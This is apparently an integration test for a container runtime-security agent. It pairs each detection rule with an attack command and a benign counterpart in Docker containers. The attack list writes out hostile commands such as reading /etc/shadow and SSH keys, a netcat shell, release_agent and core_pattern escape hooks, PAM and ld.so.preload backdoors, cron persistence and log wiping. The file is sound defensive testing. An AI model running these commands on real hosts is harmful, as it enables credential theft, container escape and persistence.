/**
 * Every built-in rule against the real kernel and a real Docker container: its attack, run in
 * an "attacker" container, raises its alert naming that container; a benign use of the same
 * tools, run in a "neighbour" container, raises no alert at all. The attacks come from busybox
 * and the image's eunomia-attack tool (test/attack/eunomia-attack.c); the agent runs the
 * trackers the rules need, as `eunomia safe` does.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Alert } from '../../src/alerts/index.js';
import { safeConfig } from '../../src/cli/server.js';
import { hasTracepoint } from '../../src/core/kernel.js';
import { loadNative } from '../../src/core/native.js';
import type { TrackerEvent } from '../../src/pipeline/types.js';
import { loadRules } from '../../src/rules/index.js';
import { Agent } from '../../src/server/agent.js';
import { defaultConfig } from '../../src/server/config.js';
import { TEST_IMAGE, dockerAsync, needsDocker, removeContainers, uniqueName } from '../docker.js';
import { waitFor } from '../helpers.js';

/** A command: `docker exec` (with a terminal if `tty`) in the case's container, or a new container from `docker run` flags. */
type Step = { exec: string[]; tty?: boolean } | { run: string[] };
const sh = (script: string): Step => ({ exec: ['sh', '-c', `${script}; true`] });
const x = (...args: string[]): Step => ({ exec: args });

/**
 * Rules whose syscalls this kernel compiles out (no module or kexec support): the call fails
 * with ENOSYS before any tracepoint, and tracefs has no sys_enter_* event for it, so nothing
 * can be seen. On such kernels their attack tests skip, saying so.
 */
const NEEDS_TRACEPOINT: Record<string, string> = { kernel_module_load: 'sys_enter_finit_module', kexec_load: 'sys_enter_kexec_file_load' };
const missingTracepoint = (rule: string): string | undefined => {
  const tp = NEEDS_TRACEPOINT[rule];
  return tp && !hasTracepoint(`tp/syscalls/${tp}`) ? `this kernel has no ${tp} tracepoint (the syscall is compiled out: ENOSYS before any tracepoint)` : undefined;
};

/** rule → [attack, benign neighbour]. */
const CASES: Record<string, [Step, Step]> = {
  insert_bpf: [x('eunomia-attack', 'bpf-load'), x('cat', '/proc/sys/kernel/unprivileged_bpf_disabled')],
  anti_debugging: [x('eunomia-attack', 'traceme'), x('cat', '/proc/self/status')],
  ptrace_attach: [x('eunomia-attack', 'ptrace-attach'), x('kill', '-0', '1')],
  shell_in_container: [{ exec: ['sh', '-c', 'echo interactive'], tty: true }, x('sh', '-c', 'echo scripted')],
  sensitive_file_read: [x('cat', '/etc/shadow'), x('cat', '/etc/passwd')],
  write_below_etc: [sh('echo x > /etc/evil.conf'), sh('echo x > /tmp/ok.conf')],
  write_below_binary_dir: [x('cp', '/bin/busybox', '/usr/bin/evil'), x('cp', '/bin/busybox', '/tmp/bb')],
  release_agent_write: [sh('echo /x > /sys/fs/cgroup/release_agent'), sh('cat /sys/fs/cgroup/cgroup.procs > /dev/null')],
  kernel_module_load: [x('eunomia-attack', 'finit-module'), x('cat', '/proc/modules')],
  mount_in_container: [sh('mount -t tmpfs none /mnt'), x('mount')],
  namespace_change_in_container: [sh('unshare -n true'), x('ls', '/proc/self/ns')],
  memfd_exec: [x('eunomia-attack', 'memfd-exec'), x('eunomia-attack', 'memfd')],
  dev_shm_exec: [sh('cp /bin/busybox /dev/shm/bb && /dev/shm/bb true'), sh('cp /bin/busybox /dev/shm/bb && ls /dev/shm')],
  netcat_remote_exec: [sh('(echo exit | timeout 3 nc -l -p 4446 &); sleep 0.3; nc 127.0.0.1 4446 -e /bin/sh'), sh('(timeout 2 nc -l -p 4447 > /dev/null &); sleep 0.3; echo hi | timeout 1 nc 127.0.0.1 4447')],
  package_manager_in_container: [x('dpkg', '-i', '/tmp/tool.deb'), x('dpkg', '-l')],
  network_tool_in_container: [x('nmap', '-sS', '10.0.0.0/24'), x('nmap', '--version')],
  runtime_socket_access: [x('eunomia-attack', 'unix-connect', '/var/run/docker.sock'), x('eunomia-attack', 'unix-connect', '/tmp/app.sock')],
  // 3 s: with 1 s, one CI run (a loaded machine) got no alert, most likely nc ended before its
  // connect(); an attempt cut off before the SYN leaves no event to see.
  cloud_metadata_contacted: [x('timeout', '3', 'nc', '169.254.169.254', '80'), x('timeout', '1', 'nc', '127.0.0.1', '80')],
  miner_pool_port: [x('timeout', '1', 'nc', '127.0.0.1', '3333'), x('timeout', '1', 'nc', '127.0.0.1', '8080')],
  shell_history_cleared: [sh(': > /root/.ash_history'), sh('echo ls >> /root/.ash_history')],
  ssh_key_search: [x('find', '/root', '-name', 'id_rsa'), x('find', '/etc', '-name', 'hostname')],
  ld_preload_tamper: [sh('echo /tmp/x.so > /etc/ld.so.preload'), sh('cat /etc/ld.so.preload')],
  private_key_read: [x('cat', '/root/.ssh/id_ed25519'), x('cat', '/root/.ssh/id_ed25519.pub')],
  container_drift: [sh('cp /bin/busybox /tmp/dropped && /tmp/dropped true'), x('/bin/busybox', 'true')],
  packet_socket_in_container: [x('eunomia-attack', 'packet-socket'), x('ping', '-c', '1', '127.0.0.1')],
  reverse_shell: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
  stdio_socket_redirect: [x('eunomia-attack', 'revshell'), x('eunomia-attack', 'unixshell')],
  privileged_container_started: [{ run: ['--cap-add', 'SYS_ADMIN'] }, { run: [] }],
  excessively_capable_container: [{ run: ['--cap-add', 'SYS_PTRACE'] }, { run: ['--cap-drop', 'NET_RAW'] }],
  setuid_bit_set: [sh('touch /tmp/s && chmod u+s /tmp/s'), sh('touch /tmp/s && chmod 755 /tmp/s')],
  userfaultfd_in_container: [x('eunomia-attack', 'userfaultfd'), x('eunomia-attack', 'eventfd')],
  kexec_load: [x('eunomia-attack', 'kexec'), x('cat', '/proc/sys/kernel/kexec_load_disabled')],
  user_management_in_container: [x('passwd', '-d', 'root'), x('passwd', '--help')],
  remote_copy_tool_in_container: [x('wget', '-q', '-T', '1', 'http://127.0.0.1:9/tool', '-O', '/tmp/tool'), x('wget', '--help')],
  cluster_admin_tool_in_container: [x('kubectl', 'get', 'secrets'), x('kubectl', '--version')],
  proc_environ_read: [x('cat', '/proc/1/environ'), x('cat', '/proc/self/environ')],
  kernel_hook_write: [sh('echo "|/tmp/x" > /proc/sys/kernel/core_pattern'), x('cat', '/proc/sys/kernel/core_pattern')],
  raw_memory_device_opened: [x('cat', '/dev/mem'), x('cat', '/dev/null')],
  log_cleared: [sh(': > /var/log/messages'), sh('echo x >> /var/log/messages')],
  shell_config_modified: [sh('echo "wget -qO- x | sh" >> /root/.profile'), x('cat', '/root/.profile')],
  cron_modified: [sh('echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root'), x('crontab', '-l')],
  path_traversal_read: [x('cat', '/tmp/../../etc/passwd'), x('cat', '/etc/passwd')],
  credential_search: [x('grep', '-r', 'password', '/etc'), x('grep', 'root', '/etc/passwd')],
  pam_config_modified: [sh('echo "auth sufficient pam_permit.so" > /etc/pam.d/other'), x('ls', '/etc/pam.d')],
  dev_file_created: [sh('echo x > /dev/.hidden'), sh('echo x > /dev/null')],
};

describe('built-in rules against real containers', { skip: needsDocker }, () => {
  let agent: Agent;
  const attacker = uniqueName('attacker');
  const neighbour = uniqueName('neighbour');
  const runs: string[] = []; // containers made by `run` steps
  const events: TrackerEvent[] = [];

  before(async () => {
    // No seccomp filter, as Kubernetes runs pods unless told otherwise: a call the filter
    // refuses never reaches the tracepoints (Docker's default profile refuses bpf, mount,
    // unshare, setns, userfaultfd …). /dev/shm executable (Docker mounts it noexec), and the
    // host's Docker socket to reach.
    const common = ['run', '-d', '--security-opt', 'seccomp=unconfined', '--tmpfs', '/dev/shm:rw,exec,size=16m'];
    await dockerAsync(...common, '--name', attacker, '-v', '/var/run/docker.sock:/var/run/docker.sock', TEST_IMAGE, 'sleep', '3600');
    await dockerAsync(...common, '--name', neighbour, TEST_IMAGE, 'sleep', '3600');
    const config = safeConfig(defaultConfig());
    config.rules.burst = 10_000; // every alert, not a throttled few
    agent = await Agent.start(config, { native: loadNative(), log: () => {} });
    // See what the agent sees, to know the neighbour's commands were observed.
    const write = agent.streams.write.bind(agent.streams);
    agent.streams.write = (ev) => {
      events.push(ev);
      write(ev);
    };
  });
  after(async () => {
    await agent?.close();
    removeContainers(attacker, neighbour, ...runs);
  });

  async function perform(step: Step, container: string, label: string): Promise<string> {
    if ('exec' in step) {
      await dockerAsync('exec', ...(step.tty ? ['-t'] : []), container, ...step.exec).catch(() => {}); // attacks may fail: the attempt is what counts
      return container;
    }
    const name = uniqueName(label);
    runs.push(name);
    await dockerAsync('run', '--name', name, ...step.run, TEST_IMAGE, 'true');
    return name;
  }

  const fromContainer = (name: string): Alert[] => agent.analyzer!.recent().filter((a) => a.container?.name === name);

  test('every built-in rule has a case here', () => {
    assert.deepEqual(Object.keys(CASES).sort(), loadRules([]).rules().map((r) => r.id).sort());
  });

  test('each attack alerts with its container; the benign neighbours raise no alert', async () => {
    // Benign runs first: their events go through each tracker's ring before the attacks'.
    const benign = new Set([neighbour]);
    for (const [rule, [, step]] of Object.entries(CASES)) benign.add(await perform(step, neighbour, `benign-${rule}`));
    const expected = new Map<string, string>(); // rule → container its alert must name
    for (const [rule, [step]] of Object.entries(CASES)) {
      if (!missingTracepoint(rule)) expected.set(rule, await perform(step, attacker, `attack-${rule}`));
    }

    const missing = (): string[] => [...expected].filter(([rule, name]) => !fromContainer(name).some((a) => a.rule === rule)).map(([r]) => r);
    await waitFor(() => missing().length === 0, 'an alert for every attack', 30_000).catch(() => {});
    assert.deepEqual(missing(), [], 'attacks that raised no alert naming their container');

    const falseAlarms = [...benign].flatMap(fromContainer).map((a) => `${a.rule}: ${a.message}`);
    assert.deepEqual(falseAlarms, [], 'alerts from the benign neighbours');
    // The neighbour's commands were seen (so their silence means something): an exec event for each.
    const neighbourExecs = events.filter((e) => e.tracker === 'process' && e.data.type === 'exec' && (e.data.container as { name?: string })?.name === neighbour);
    assert.ok(neighbourExecs.length >= Object.values(CASES).filter(([, b]) => 'exec' in b).length, `only ${neighbourExecs.length} execs seen in the neighbour`);

    // Alerts carry what a responder needs.
    const shell = fromContainer(attacker).find((a) => a.rule === 'shell_in_container')!;
    assert.equal(shell.process?.comm, 'sh');
    assert.equal(shell.container?.image, TEST_IMAGE);
    const drift = fromContainer(attacker).find((a) => a.rule === 'container_drift')!;
    assert.equal(drift.process?.exe, '/tmp/dropped');
  });

  for (const rule of Object.keys(NEEDS_TRACEPOINT)) {
    test(`${rule}: its attack alerts`, { skip: missingTracepoint(rule) }, () => {
      assert.ok(agent.analyzer!.recent().some((a) => a.rule === rule && a.container?.name === attacker), 'covered by the test above on this kernel');
    });
  }
});
